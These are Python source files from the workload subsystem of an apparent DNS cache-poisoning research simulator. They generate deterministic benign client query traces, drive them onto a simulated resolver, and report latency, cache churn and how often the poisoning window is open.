domain popularity, per-client arrival processes, TTL-driven cache churn
— decides whether a poisoning window ever opens (the victim name is
only attackable while it is absent from the cache).  This module is the
*model* half of the workload subsystem: a picklable
:class:`WorkloadSpec` describing a client population, compiled by
:func:`repro.workload.trace.synthesize_trace` into a concrete
:class:`~repro.workload.trace.QueryTrace` for a seed.

Everything is driven by :class:`repro.core.rng.DeterministicRNG` child
streams (one per client), so the same spec and seed produce the same
trace bit-for-bit on every executor — the property the loaded-campaign
determinism tests pin down.
"""

from __future__ import annotations

from bisect import bisect_right
from dataclasses import dataclass, field, replace
from typing import Iterable

from repro.core.errors import ScenarioError
from repro.core.rng import DeterministicRNG

#: Hard cap on distinct simulated client hosts: the victim /24 has to
#: hold them alongside the resolver (.1) and the service host (.25).
MAX_CLIENTS = 100

#: TTLs cycled across the background catalog (seconds).  A mix of
#: short and long lifetimes is what produces realistic cache churn:
#: popular names flap in and out while the long tail stays resident.
DEFAULT_TTLS = (5, 15, 30, 60, 300)

#: Query-type mix of a typical stub population: mostly A, some AAAA
#: dual-stack probing, a little TXT (SPF/verification lookups).
DEFAULT_QTYPE_MIX = (("A", 0.85), ("AAAA", 0.10), ("TXT", 0.05))


@dataclass(frozen=True)
class CatalogEntry:
    """One name the client population queries."""

    qname: str
    rank: int            # popularity rank, 0 = most popular
    ttl: int             # TTL its zone serves for the A record
    victim: bool = False  # the name the attack races


class MixSampler:
    """Draw from a discrete weighted distribution via one bisect.

    The cumulative table is built once; each draw costs a single
    ``random()`` plus a binary search, and consumes exactly one value
    from the RNG stream regardless of the outcome — which keeps
    per-client streams aligned and the whole trace bit-stable.
    """

    def __init__(self, weights: Iterable[float]):
        cumulative: list[float] = []
        total = 0.0
        for weight in weights:
            if weight < 0:
                raise ScenarioError(f"negative weight: {weight}")
            total += weight
        if total <= 0:
            raise ScenarioError("mix needs at least one positive weight")
        acc = 0.0
        for weight in weights:
            acc += weight / total
            cumulative.append(acc)
        cumulative[-1] = 1.0
        self._cumulative = cumulative

    def sample(self, rng: DeterministicRNG) -> int:
        """Index of the drawn element."""
        return bisect_right(self._cumulative, rng.random())


def zipf_weights(count: int, s: float) -> list[float]:
    """Unnormalised Zipf popularity weights ``1/(rank+1)^s``."""
    if count < 1:
        raise ScenarioError(f"catalog needs at least one name: {count}")
    return [1.0 / float(rank + 1) ** s for rank in range(count)]


@dataclass(frozen=True)
class WorkloadSpec:
    """A client population as plain, picklable data.

    ``clients`` stub clients inside the resolver's ACL each run an
    independent Poisson arrival process at ``qps / clients`` queries
    per second for ``warmup + duration`` virtual seconds.  Each arrival
    draws a name from a Zipf-ranked catalog of ``domains`` background
    names plus the victim name spliced in at ``victim_rank``, and a
    query type from ``qtype_mix``.  ``qps=0`` is the degenerate idle
    workload: it compiles to an empty trace and a loaded scenario
    reproduces the idle-world attack bit-for-bit.

    ``trace_path`` switches the spec from synthesis to replay: the
    JSONL query log at that path becomes the workload verbatim (the
    model knobs are ignored except ``warmup``, which still splits the
    trace into cache-priming and measured phases).
    """

    clients: int = 8
    qps: float = 50.0
    duration: float = 20.0
    warmup: float = 5.0
    domains: int = 20
    zipf_s: float = 1.1
    victim_rank: int = 3
    # When set, the engine rewrites the victim name's zone TTL so the
    # cache entry churns on the workload's timescale (the standard
    # testbed's 300s TTL would pin the name cached for any whole run).
    victim_ttl: int | None = None
    qtype_mix: tuple[tuple[str, float], ...] = DEFAULT_QTYPE_MIX
    ttls: tuple[int, ...] = DEFAULT_TTLS
    client_timeout: float = 6.0
    trace_path: str | None = None
    label: str = "synthetic"

    def __post_init__(self) -> None:
        if not 1 <= self.clients <= MAX_CLIENTS:
            raise ScenarioError(
                f"clients must be in [1, {MAX_CLIENTS}]: {self.clients}")
        if self.qps < 0:
            raise ScenarioError(f"negative qps: {self.qps}")
        if self.duration <= 0:
            raise ScenarioError(f"duration must be positive: {self.duration}")
        if self.warmup < 0:
            raise ScenarioError(f"negative warmup: {self.warmup}")
        if self.domains < 1:
            raise ScenarioError(f"domains must be >= 1: {self.domains}")
        if not self.ttls:
            raise ScenarioError("ttls must not be empty")
        if not self.qtype_mix:
            raise ScenarioError("qtype_mix must not be empty")

    # -- derived ---------------------------------------------------------------

    @property
    def horizon(self) -> float:
        """Total seconds of offered load (warmup + measured window)."""
        return self.warmup + self.duration

    def with_qps(self, qps: float) -> "WorkloadSpec":
        """A copy at a different offered rate (sweep convenience)."""
        return replace(self, qps=qps, label=f"{self.label}@{qps:g}qps")

    def catalog(self, victim_qname: str) -> list[CatalogEntry]:
        """The ranked name catalog with the victim name spliced in.

        Background names live under their own ``.bg`` TLD so the
        engine can create their zones without touching the victim
        domain's delegation; TTLs cycle through :attr:`ttls` by rank.
        """
        rank_of_victim = min(max(self.victim_rank, 0), self.domains)
        entries: list[CatalogEntry] = []
        rank = 0
        background = 0
        while rank < self.domains + 1:
            if rank == rank_of_victim:
                entries.append(CatalogEntry(
                    qname=victim_qname, rank=rank,
                    ttl=self.victim_ttl if self.victim_ttl is not None
                    else 300,
                    victim=True,
                ))
            else:
                entries.append(CatalogEntry(
                    qname=f"load-{background:03d}.bg", rank=rank,
                    ttl=self.ttls[background % len(self.ttls)],
                ))
                background += 1
            rank += 1
        return entries

    def domain_sampler(self) -> MixSampler:
        """Sampler over the catalog's Zipf popularity ranks."""
        return MixSampler(zipf_weights(self.domains + 1, self.zipf_s))

    def qtype_sampler(self) -> tuple[MixSampler, list[str]]:
        """Sampler over the query-type mix, plus the type names."""
        names = [name for name, _weight in self.qtype_mix]
        return MixSampler([weight for _name, weight in self.qtype_mix]), \
            names

    def arrival_times(self, client: int,
                      rng: DeterministicRNG) -> list[float]:
        """Poisson arrival instants for one client over the horizon.

        ``rng`` must be the client's *own* derived stream; the draws
        here are the only randomness the client consumes for timing,
        so client streams never perturb each other.
        """
        rate = self.qps / self.clients
        if rate <= 0:
            return []
        times: list[float] = []
        now = rng.expovariate(rate)
        while now < self.horizon:
            times.append(now)
            now += rng.expovariate(rate)
        return times
