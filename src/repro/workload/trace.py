"""Query traces: the concrete workload a population compiles to.

A :class:`QueryTrace` is an ordered list of ``(at, client, qname,
qtype)`` arrivals — either synthesized from a :class:`WorkloadSpec`'s
client population or ingested from a JSONL query log, so a real
resolver's traffic can become a campaign workload.  The JSONL format is
one object per line::

    {"at": 0.3127, "client": 2, "qname": "load-004.bg", "qtype": "A"}

Floats round-trip exactly through ``json`` (``repr``-based shortest
representation), so write → read → write is byte-stable and the trace
checksum is a fair determinism witness.
"""

from __future__ import annotations

import hashlib
import heapq
import io
import json
import os
from dataclasses import dataclass
from typing import IO, Iterable, Iterator

from repro.core.errors import ScenarioError
from repro.core.rng import DeterministicRNG
from repro.workload.population import WorkloadSpec


@dataclass(frozen=True)
class TraceQuery:
    """One client arrival: at virtual second ``at``, ``client`` asks."""

    at: float
    client: int
    qname: str
    qtype: str = "A"

    def to_json(self) -> dict:
        return {"at": self.at, "client": self.client,
                "qname": self.qname, "qtype": self.qtype}

    @classmethod
    def from_json(cls, payload: dict) -> "TraceQuery":
        try:
            return cls(at=float(payload["at"]),
                       client=int(payload["client"]),
                       qname=str(payload["qname"]),
                       qtype=str(payload.get("qtype", "A")))
        except (KeyError, TypeError, ValueError) as exc:
            raise ScenarioError(f"malformed trace record: {payload!r}") \
                from exc


class QueryTrace:
    """An ordered query log with JSONL persistence.

    Queries are kept sorted by ``(at, client)`` — the order the engine
    schedules them — regardless of the order they were appended or read
    in, so a hand-edited or merged log replays identically to a
    synthesized one.
    """

    def __init__(self, queries: Iterable[TraceQuery] = ()):
        self.queries: list[TraceQuery] = sorted(
            queries, key=lambda q: (q.at, q.client))

    def __len__(self) -> int:
        return len(self.queries)

    def __iter__(self) -> Iterator[TraceQuery]:
        return iter(self.queries)

    def __bool__(self) -> bool:
        return bool(self.queries)

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, QueryTrace):
            return NotImplemented
        return self.queries == other.queries

    @property
    def horizon(self) -> float:
        """Virtual second of the last arrival (0.0 when empty)."""
        return self.queries[-1].at if self.queries else 0.0

    def clients(self) -> list[int]:
        """Distinct client ids, ascending."""
        return sorted({query.client for query in self.queries})

    def qnames(self) -> list[str]:
        """Distinct queried names, ascending."""
        return sorted({query.qname for query in self.queries})

    def checksum(self) -> str:
        """SHA-256 over the canonical JSONL rendering."""
        digest = hashlib.sha256()
        for query in self.queries:
            digest.update(_dump_line(query).encode("utf-8"))
        return digest.hexdigest()

    # -- JSONL persistence -----------------------------------------------------

    def write(self, target: str | os.PathLike | IO[str]) -> None:
        """Write the trace as JSONL to a path or open text stream."""
        if isinstance(target, io.IOBase) or hasattr(target, "write"):
            self._write_stream(target)  # type: ignore[arg-type]
        else:
            with open(target, "w", encoding="utf-8") as stream:
                self._write_stream(stream)

    def _write_stream(self, stream: IO[str]) -> None:
        for query in self.queries:
            stream.write(_dump_line(query))

    @classmethod
    def read(cls, source: str | os.PathLike | IO[str]) -> "QueryTrace":
        """Read a JSONL trace from a path or open text stream."""
        if isinstance(source, io.IOBase) or hasattr(source, "read"):
            return cls._read_stream(source)  # type: ignore[arg-type]
        with open(source, "r", encoding="utf-8") as stream:
            return cls._read_stream(stream)

    @classmethod
    def _read_stream(cls, stream: IO[str]) -> "QueryTrace":
        queries = []
        for lineno, line in enumerate(stream, start=1):
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            try:
                payload = json.loads(line)
            except json.JSONDecodeError as exc:
                raise ScenarioError(
                    f"trace line {lineno} is not JSON: {line[:80]!r}") \
                    from exc
            queries.append(TraceQuery.from_json(payload))
        return cls(queries)


def _dump_line(query: TraceQuery) -> str:
    return json.dumps(query.to_json(), separators=(", ", ": ")) + "\n"


def synthesize_trace(spec: WorkloadSpec, rng: DeterministicRNG,
                     victim_qname: str) -> QueryTrace:
    """Compile a client population into a concrete query trace.

    Each client draws from its own ``rng.derive(f"client-{i}")`` stream
    — arrival times first, then one (domain, qtype) pair per arrival —
    so adding a client or reordering the loop never shifts another
    client's draws.  Per-client streams are merged by arrival time into
    one log.  ``rng`` itself is never advanced (``derive`` is
    stateless), which is what lets a qps=0 workload leave the world's
    randomness untouched.
    """
    catalog = spec.catalog(victim_qname)
    domain_sampler = spec.domain_sampler()
    qtype_sampler, qtype_names = spec.qtype_sampler()
    streams: list[list[TraceQuery]] = []
    for client in range(spec.clients):
        client_rng = rng.derive(f"client-{client}")
        arrivals = spec.arrival_times(client, client_rng)
        queries = []
        for at in arrivals:
            entry = catalog[domain_sampler.sample(client_rng)]
            qtype = qtype_names[qtype_sampler.sample(client_rng)]
            queries.append(TraceQuery(at=at, client=client,
                                      qname=entry.qname, qtype=qtype))
        streams.append(queries)
    merged = list(heapq.merge(*streams, key=lambda q: (q.at, q.client)))
    return QueryTrace(merged)


def load_or_synthesize(spec: WorkloadSpec, rng: DeterministicRNG,
                       victim_qname: str) -> QueryTrace:
    """The trace a spec stands for: replay when ``trace_path`` is set."""
    if spec.trace_path is not None:
        return QueryTrace.read(spec.trace_path)
    return synthesize_trace(spec, rng, victim_qname)
