"""LoadReport: what the benign population experienced during a run.

The workload engine feeds one :class:`LoadReport` per scenario run;
campaigns merge them across seeds.  Three families of measurements:

* **benign-client latency** — a fixed-edge histogram (ms) of answered
  queries plus a timeout count, because degraded benign traffic is
  itself an attack outcome (Herzberg & Shulman's Stealth-MITM DoS);
* **cache behaviour** — hit/miss/expiration deltas over the measured
  window, plus a time-bucketed curve of hit rate and victim-name
  absence;
* **window of opportunity** — the fraction of arrival instants at
  which the victim name was cache-absent.  Arrivals are Poisson, so by
  PASTA this estimates the fraction of wall-clock the poisoning window
  was open, with zero extra scheduler events.

Everything is plain data: JSON round-trip, deterministic checksum,
and a :func:`LoadReport.merge` that campaign aggregation leans on.
"""

from __future__ import annotations

import hashlib
import json
from bisect import bisect_left
from dataclasses import dataclass, field

from repro.obs.metrics import DEFAULT_EDGES_MS, interpolated_percentile

#: Histogram bin upper edges in milliseconds; the last bin is open.
#: One scale shared with every obs histogram (see repro.obs.metrics).
LATENCY_EDGES_MS = DEFAULT_EDGES_MS


@dataclass(frozen=True)
class CurvePoint:
    """One time bucket of the cache-behaviour curve."""

    start: float          # bucket start, virtual seconds from run start
    queries: int          # benign arrivals in the bucket
    cache_hits: int       # of which the resolver answered from cache
    window_absent: int    # arrivals that found the victim name absent

    @property
    def hit_rate(self) -> float:
        return self.cache_hits / self.queries if self.queries else 0.0

    @property
    def window_fraction(self) -> float:
        return self.window_absent / self.queries if self.queries else 1.0

    def to_json(self) -> dict:
        return {"start": self.start, "queries": self.queries,
                "cache_hits": self.cache_hits,
                "window_absent": self.window_absent}

    @classmethod
    def from_json(cls, payload: dict) -> "CurvePoint":
        return cls(start=float(payload["start"]),
                   queries=int(payload["queries"]),
                   cache_hits=int(payload["cache_hits"]),
                   window_absent=int(payload["window_absent"]))


@dataclass
class LoadReport:
    """Aggregate outcome of one (or many merged) loaded runs.

    ``offered`` counts measured-phase arrivals only; warmup queries
    prime the cache and are tallied separately so hit rates are not
    flattered by the cold start.
    """

    label: str = ""
    offered: int = 0
    warmup_queries: int = 0
    answered: int = 0
    timeouts: int = 0
    victim_queries: int = 0      # measured arrivals for the victim name
    poisoned_answers: int = 0    # benign answers served from a poisoned entry
    window_samples: int = 0
    window_absent: int = 0
    cache_hits: int = 0
    cache_misses: int = 0
    cache_expirations: int = 0
    duration: float = 0.0        # measured virtual seconds (summed on merge)
    latency_bins: list[int] = field(
        default_factory=lambda: [0] * (len(LATENCY_EDGES_MS) + 1))
    curve: list[CurvePoint] = field(default_factory=list)
    runs: int = 1

    # -- recording (engine-side) -----------------------------------------------

    def record_latency(self, ms: float) -> None:
        self.latency_bins[bisect_left(LATENCY_EDGES_MS, ms)] += 1

    # -- derived ---------------------------------------------------------------

    @property
    def offered_qps(self) -> float:
        return self.offered / self.duration if self.duration else 0.0

    @property
    def answer_rate(self) -> float:
        return self.answered / self.offered if self.offered else 0.0

    @property
    def hit_rate(self) -> float:
        looked_up = self.cache_hits + self.cache_misses
        return self.cache_hits / looked_up if looked_up else 0.0

    @property
    def window_fraction(self) -> float:
        """Share of arrival instants with the victim name cache-absent.

        1.0 when nothing was sampled: an unobserved cache is an open
        window, which is exactly the idle-world situation.
        """
        if self.window_samples == 0:
            return 1.0
        return self.window_absent / self.window_samples

    def latency_percentile_ms(self, q: float) -> float:
        """Approximate latency percentile from the histogram (ms).

        Linear interpolation inside the winning bin; the open last bin
        reports its lower edge.  ``0.0`` when nothing was answered.
        """
        return interpolated_percentile(self.latency_bins,
                                       LATENCY_EDGES_MS, q)

    # -- aggregation -----------------------------------------------------------

    @classmethod
    def merge(cls, reports: list["LoadReport"],
              label: str = "") -> "LoadReport":
        """Sum counters across runs; curves concatenate end-to-end."""
        merged = cls(label=label or (reports[0].label if reports else ""),
                     runs=0)
        offset = 0.0
        for report in reports:
            merged.offered += report.offered
            merged.warmup_queries += report.warmup_queries
            merged.answered += report.answered
            merged.timeouts += report.timeouts
            merged.victim_queries += report.victim_queries
            merged.poisoned_answers += report.poisoned_answers
            merged.window_samples += report.window_samples
            merged.window_absent += report.window_absent
            merged.cache_hits += report.cache_hits
            merged.cache_misses += report.cache_misses
            merged.cache_expirations += report.cache_expirations
            merged.duration += report.duration
            merged.runs += report.runs
            for index, count in enumerate(report.latency_bins):
                merged.latency_bins[index] += count
            for point in report.curve:
                merged.curve.append(CurvePoint(
                    start=offset + point.start, queries=point.queries,
                    cache_hits=point.cache_hits,
                    window_absent=point.window_absent))
            offset += report.duration
        return merged

    # -- persistence -----------------------------------------------------------

    def to_json(self) -> dict:
        return {
            "label": self.label,
            "offered": self.offered,
            "warmup_queries": self.warmup_queries,
            "answered": self.answered,
            "timeouts": self.timeouts,
            "victim_queries": self.victim_queries,
            "poisoned_answers": self.poisoned_answers,
            "window_samples": self.window_samples,
            "window_absent": self.window_absent,
            "cache_hits": self.cache_hits,
            "cache_misses": self.cache_misses,
            "cache_expirations": self.cache_expirations,
            "duration": self.duration,
            "latency_bins": list(self.latency_bins),
            "curve": [point.to_json() for point in self.curve],
            "runs": self.runs,
        }

    @classmethod
    def from_json(cls, payload: dict) -> "LoadReport":
        report = cls(label=str(payload.get("label", "")))
        for name in ("offered", "warmup_queries", "answered", "timeouts",
                     "victim_queries", "poisoned_answers", "window_samples",
                     "window_absent", "cache_hits", "cache_misses",
                     "cache_expirations", "runs"):
            setattr(report, name, int(payload.get(name, 0)))
        report.duration = float(payload.get("duration", 0.0))
        bins = [int(c) for c in payload.get("latency_bins", [])]
        if len(bins) == len(report.latency_bins):
            report.latency_bins = bins
        report.curve = [CurvePoint.from_json(p)
                        for p in payload.get("curve", [])]
        return report

    def checksum(self) -> str:
        """SHA-256 over the canonical JSON rendering."""
        rendered = json.dumps(self.to_json(), sort_keys=True,
                              separators=(",", ":"))
        return hashlib.sha256(rendered.encode("utf-8")).hexdigest()

    # -- rendering -------------------------------------------------------------

    def summary_row(self) -> list[str]:
        """The cells campaign/CLI tables show for this report."""
        return [
            f"{self.offered_qps:.1f}",
            str(self.offered),
            f"{self.answer_rate * 100:.1f}%",
            f"{self.latency_percentile_ms(0.50):.1f}",
            f"{self.latency_percentile_ms(0.99):.1f}",
            f"{self.hit_rate * 100:.1f}%",
            f"{self.window_fraction * 100:.1f}%",
            str(self.poisoned_answers),
        ]

    @staticmethod
    def summary_headers() -> list[str]:
        return ["offered qps", "queries", "answered", "p50 ms", "p99 ms",
                "hit rate", "window", "poisoned answers"]

    def describe(self) -> str:
        """Human-readable report: summary table + histogram + curve."""
        # Imported here: the measurements package pulls in the campaign
        # layer, which itself imports this module — a top-level import
        # would cycle.
        from repro.measurements.report import render_table

        lines = [render_table(
            self.summary_headers(), [self.summary_row()],
            title=f"Load report: {self.label or 'workload'}"
                  f" ({self.runs} run{'s' if self.runs != 1 else ''})")]
        total = sum(self.latency_bins)
        if total:
            lines.append("")
            lines.append("Benign-client latency (answered queries):")
            low = 0.0
            for index, count in enumerate(self.latency_bins):
                if count == 0:
                    if index < len(LATENCY_EDGES_MS):
                        low = LATENCY_EDGES_MS[index]
                    continue
                if index < len(LATENCY_EDGES_MS):
                    edge = f"{low:g}-{LATENCY_EDGES_MS[index]:g} ms"
                    low = LATENCY_EDGES_MS[index]
                else:
                    edge = f">{LATENCY_EDGES_MS[-1]:g} ms"
                bar = "#" * max(1, round(40 * count / total))
                lines.append(f"  {edge:>14} | {bar} {count}")
            if self.timeouts:
                lines.append(f"  {'timeout':>14} | {self.timeouts}")
        if self.curve:
            lines.append("")
            lines.append(render_table(
                ["t (s)", "queries", "hit rate", "window open"],
                [[f"{point.start:.0f}", str(point.queries),
                  f"{point.hit_rate * 100:.0f}%",
                  f"{point.window_fraction * 100:.0f}%"]
                 for point in self.curve],
                title="Cache hit rate vs. window of opportunity:"))
        return "\n".join(lines)
