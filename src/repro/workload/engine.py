"""The workload engine: a query trace driving a testbed's resolver.

:class:`WorkloadEngine` turns a compiled :class:`QueryTrace` into
scheduler events on the world's virtual clock: per-arrival it attaches
an ephemeral UDP socket on the querying client's host, sends a real DNS
query to the resolver's client service, and records what the client
experienced (latency, timeout, a poisoned answer).  Because arrivals
share the attack's scheduler, benign load and attack traffic interleave
exactly as they would on a busy resolver — cache churn opens and closes
the poisoning window while the attack races it.

Lifecycle (driven by :class:`repro.scenario.spec.BuiltScenario`):

* :meth:`install` — add the background-name zones to the testbed, apply
  the victim-TTL override, attach the client hosts;
* :meth:`begin` — schedule every arrival, then run the warmup slice so
  the cache is primed before the attack starts;
* :meth:`finish` — drain the remaining arrivals plus the client-timeout
  tail and finalize the :class:`LoadReport`.

An *empty* trace (``qps=0``, or a replay of an empty log) makes all
three methods complete no-ops: no hosts, no zones, no clock advance, no
RNG draws — so a loaded scenario at qps=0 reproduces the idle-world
attack bit-for-bit, which is the subsystem's key acceptance criterion.
"""

from __future__ import annotations

from dataclasses import replace as dc_replace

from repro.core.rng import DeterministicRNG
from repro.dns import names
from repro.dns.message import make_query
from repro.dns.records import TYPE_A, rr_a, type_code
from repro.dns.resolver import DNS_PORT, RecursiveResolver
from repro.dns.wire import decode_message, encode_message
from repro.netsim.packet import UdpDatagram
from repro.obs import OBS
from repro.obs.profile import stage
from repro.testbed import Testbed
from repro.workload.population import WorkloadSpec
from repro.workload.report import CurvePoint, LoadReport
from repro.workload.trace import QueryTrace, TraceQuery, load_or_synthesize

#: Client hosts occupy 30.0.0.(CLIENT_IP_BASE + i) — inside the victim
#: /24 (so the resolver ACL admits them) and clear of the resolver (.1)
#: and service host (.25).
CLIENT_IP_BASE = 100

#: Resolution of the cache-behaviour curve (time buckets per run).
CURVE_BUCKETS = 8

#: Zone TTL for replayed names that are not in any synthesis catalog.
REPLAY_TTL = 60


class WorkloadEngine:
    """Drives one scenario run's benign query load."""

    def __init__(self, spec: WorkloadSpec, world: dict, victim_qname: str,
                 rng: DeterministicRNG | None = None):
        self.spec = spec
        self.world = world
        self.testbed: Testbed = world["testbed"]
        self.resolver: RecursiveResolver = world["resolver"]
        self.network = self.testbed.network
        self.victim_qname = names.normalise(victim_qname)
        # derive() is stateless, so taking a workload stream never
        # perturbs the world's other RNG consumers.
        self.rng = rng if rng is not None \
            else self.testbed.rng.derive("workload")
        self.trace: QueryTrace = load_or_synthesize(
            spec, self.rng, self.victim_qname)
        self.report = LoadReport(label=spec.label)
        self.active = bool(self.trace)
        self.origin = 0.0
        self.finished = False
        self._installed = False
        self._clients: dict[int, object] = {}
        self._pending = 0
        # Synthesis stops at spec.horizon (the last arrival lands just
        # short of it); a replayed log defines its own horizon.
        self._span_end = self.trace.horizon if spec.trace_path is not None \
            else max(self.trace.horizon, spec.horizon)
        self._measured_span = self._span_end - spec.warmup
        if self._measured_span <= 0:
            self._measured_span = spec.duration
        self._bucket_width = self._measured_span / CURVE_BUCKETS
        self._bucket_queries = [0] * CURVE_BUCKETS
        self._bucket_hits = [0] * CURVE_BUCKETS
        self._bucket_absent = [0] * CURVE_BUCKETS
        self._expirations_at_begin = 0

    # -- lifecycle -------------------------------------------------------------

    def install(self) -> None:
        """Create client hosts and background zones (idempotent)."""
        if not self.active or self._installed:
            return
        self._installed = True
        self._apply_victim_ttl()
        self._install_background_domains()
        self._clients = {}
        for client in self.trace.clients():
            address = f"30.0.0.{CLIENT_IP_BASE + client}"
            self._clients[client] = self.testbed.make_host(
                f"load-client-{client}", address)

    def begin(self) -> None:
        """Schedule every arrival, then run the cache-priming warmup."""
        if not self.active:
            return
        with stage("workload.begin"):
            self.install()
            scheduler = self.network.scheduler
            self.origin = self.network.now
            self._expirations_at_begin = \
                self.resolver.cache.stats.expirations
            for query in self.trace:
                scheduler.call_later(query.at, self._fire, query)
                self._pending += 1
            if self.spec.warmup > 0:
                self.network.run(self.spec.warmup)

    def finish(self) -> LoadReport:
        """Drain remaining load and finalize the report."""
        if self.finished:
            return self.report
        self.finished = True
        if self.active:
            with stage("workload.drain"):
                tail = self.origin + self._span_end \
                    + self.spec.client_timeout + 0.001
                if self.network.now < tail:
                    self.network.run(tail - self.network.now)
            self.report.duration = self._measured_span
            self.report.cache_expirations = (
                self.resolver.cache.stats.expirations
                - self._expirations_at_begin)
            self.report.curve = [
                CurvePoint(
                    start=index * self._bucket_width,
                    queries=self._bucket_queries[index],
                    cache_hits=self._bucket_hits[index],
                    window_absent=self._bucket_absent[index],
                )
                for index in range(CURVE_BUCKETS)
            ]
            if OBS.enabled:
                # Mirror the finished report's aggregates only — the
                # per-arrival hot path records nothing, so a loaded run
                # costs the same with the plane on.
                report = self.report
                OBS.counter("workload.offered_total").inc(
                    report.offered)
                OBS.counter("workload.answered_total").inc(
                    report.answered)
                OBS.counter("workload.timeouts_total").inc(
                    report.timeouts)
                OBS.counter("workload.poisoned_answers_total").inc(
                    report.poisoned_answers)
                OBS.counter("workload.cache_hits_total").inc(
                    report.cache_hits)
                OBS.histogram("workload.latency_ms").observe_bins(
                    report.latency_bins)
        return self.report

    # -- world preparation -----------------------------------------------------

    def _apply_victim_ttl(self) -> None:
        """Rewrite the victim name's zone TTL to the spec's override.

        The standard testbed serves the target names with TTL 300 —
        longer than any workload run, so the cache entry would never
        churn and the poisoning window would never reopen.  The
        override puts the victim name on the workload's timescale.
        """
        if self.spec.victim_ttl is None:
            return
        target = self.world.get("target")
        if target is None:
            return
        zone = target.zone
        for index, record in enumerate(zone.records):
            if record.rtype == TYPE_A \
                    and names.same_name(record.name, self.victim_qname):
                zone.records[index] = dc_replace(
                    record, ttl=self.spec.victim_ttl)

    def _install_background_domains(self) -> None:
        """One tiny authoritative domain per background name in the trace.

        Synthesized traces query ``load-NNN.bg`` names from the spec's
        catalog (whose TTLs drive cache churn); replayed logs may name
        anything, so unknown names get a default-TTL zone.  Names the
        testbed already serves (the victim domain above all) are left
        alone.
        """
        catalog_ttl = {
            names.normalise(entry.qname): entry.ttl
            for entry in self.spec.catalog(self.victim_qname)
        }
        existing = set(self.testbed.domains)
        for index, qname in enumerate(self.trace.qnames()):
            qname = names.normalise(qname)
            if qname == self.victim_qname or qname in existing:
                continue
            if any(names.is_subdomain(qname, domain)
                   for domain in existing):
                continue
            ttl = catalog_ttl.get(qname, REPLAY_TTL)
            self.testbed.add_domain(
                qname,
                f"77.{index // 200}.{index % 200 + 1}.53",
                records=[rr_a(qname, f"88.{index // 200}"
                                     f".{index % 200 + 1}.80", ttl=ttl)],
            )
            existing.add(qname)

    # -- per-arrival machinery -------------------------------------------------

    def _fire(self, query: TraceQuery) -> None:
        """One client arrival: send the query, watch for the answer."""
        now = self.network.now
        measured = query.at >= self.spec.warmup
        qtype = type_code(query.qtype)
        if measured:
            self.report.offered += 1
            self._sample_window(query)
            self._predict_cache(query, qtype)
        else:
            self.report.warmup_queries += 1
        host = self._clients[query.client]
        txid = (query.client * 8191 + int(query.at * 1000)) & 0xFFFF
        state = {"done": False}

        def settle() -> None:
            state["done"] = True
            self._pending -= 1
            timer.cancel()
            socket.close()

        def on_answer(datagram: UdpDatagram, src: str, dst: str) -> None:
            if state["done"] or src != self.resolver.address:
                return
            try:
                response = decode_message(datagram.payload)
            except Exception:
                return
            if not response.is_response or response.txid != txid:
                return
            settle()
            if measured:
                self._record_answer(query, now)

        def on_timeout() -> None:
            if state["done"]:
                return
            settle()
            if measured:
                self.report.timeouts += 1

        socket = host.open_udp(None, on_answer)
        timer = self.network.scheduler.call_later(
            self.spec.client_timeout, on_timeout)
        message = make_query(query.qname, qtype, txid)
        socket.sendto(self.resolver.address, DNS_PORT,
                      encode_message(message))

    def _bucket(self, query: TraceQuery) -> int:
        offset = query.at - self.spec.warmup
        index = int(offset / self._bucket_width) if self._bucket_width \
            else 0
        return min(max(index, 0), CURVE_BUCKETS - 1)

    def _sample_window(self, query: TraceQuery) -> None:
        """PASTA sample: is the poisoning window open right now?

        Arrivals are Poisson, so the fraction of arrivals that find the
        victim name cache-absent estimates the fraction of wall-clock
        the window is open — no dedicated probe events needed.  Uses
        :meth:`DnsCache.entry` (raw access), so sampling never touches
        the cache's hit/miss accounting.
        """
        now = self.network.now
        entry = self.resolver.cache.entry(self.victim_qname, TYPE_A)
        absent = entry is None or not entry.alive(now)
        self.report.window_samples += 1
        bucket = self._bucket(query)
        self._bucket_queries[bucket] += 1
        if absent:
            self.report.window_absent += 1
            self._bucket_absent[bucket] += 1

    def _predict_cache(self, query: TraceQuery, qtype: int) -> None:
        """Will this arrival be served from cache?  (Checked pre-send.)"""
        entry = self.resolver.cache.entry(query.qname, qtype)
        hit = entry is not None and entry.alive(self.network.now)
        if hit:
            self.report.cache_hits += 1
            self._bucket_hits[self._bucket(query)] += 1
        else:
            self.report.cache_misses += 1
        if names.same_name(query.qname, self.victim_qname):
            self.report.victim_queries += 1

    def _record_answer(self, query: TraceQuery, sent_at: float) -> None:
        self.report.answered += 1
        self.report.record_latency((self.network.now - sent_at) * 1000.0)
        if names.same_name(query.qname, self.victim_qname):
            entry = self.resolver.cache.entry(self.victim_qname, TYPE_A)
            if entry is not None and entry.poisoned \
                    and entry.alive(self.network.now):
                # Ground truth: the benign client just consumed a
                # poisoned record — the kill-chain outcome under load.
                self.report.poisoned_answers += 1
