"""repro.workload — benign traffic load for attack scenarios.

Attacks against an idle resolver overstate the adversary: a busy cache
keeps the victim name resident (closing the poisoning window) and a
busy network means benign clients *feel* the attack (latency, timeouts,
poisoned answers).  This package models the busy resolver:

* :class:`WorkloadSpec` — a deterministic client population (Zipf
  domain popularity, Poisson per-client arrivals, query-type mix) as
  plain picklable data;
* :class:`QueryTrace` / :func:`synthesize_trace` — the compiled query
  log, with a JSONL reader/writer so real logs replay as workloads;
* :class:`WorkloadEngine` — schedules the trace onto a testbed's
  virtual clock so benign load and attack traffic interleave;
* :class:`LoadReport` — what the benign population experienced: latency
  histograms, cache hit/expiry curves, and the window-of-opportunity
  fraction (share of time the victim name is cache-absent).

Scenario integration: ``AttackScenario(workload=WorkloadSpec(...))``
runs the load around the attack and attaches the report as
``ScenarioRun.load_report``; campaigns merge reports per label.  A
``python -m repro.workload`` CLI synthesizes, replays and re-renders
traces from the shell.
"""

from repro.workload.engine import WorkloadEngine
from repro.workload.population import (
    CatalogEntry,
    MixSampler,
    WorkloadSpec,
    zipf_weights,
)
from repro.workload.report import CurvePoint, LoadReport
from repro.workload.trace import (
    QueryTrace,
    TraceQuery,
    load_or_synthesize,
    synthesize_trace,
)

__all__ = [
    "CatalogEntry",
    "CurvePoint",
    "LoadReport",
    "MixSampler",
    "QueryTrace",
    "TraceQuery",
    "WorkloadEngine",
    "WorkloadSpec",
    "load_or_synthesize",
    "synthesize_trace",
    "zipf_weights",
]
