"""Entry point for ``python -m repro.workload``."""

from repro.workload.cli import main

raise SystemExit(main())
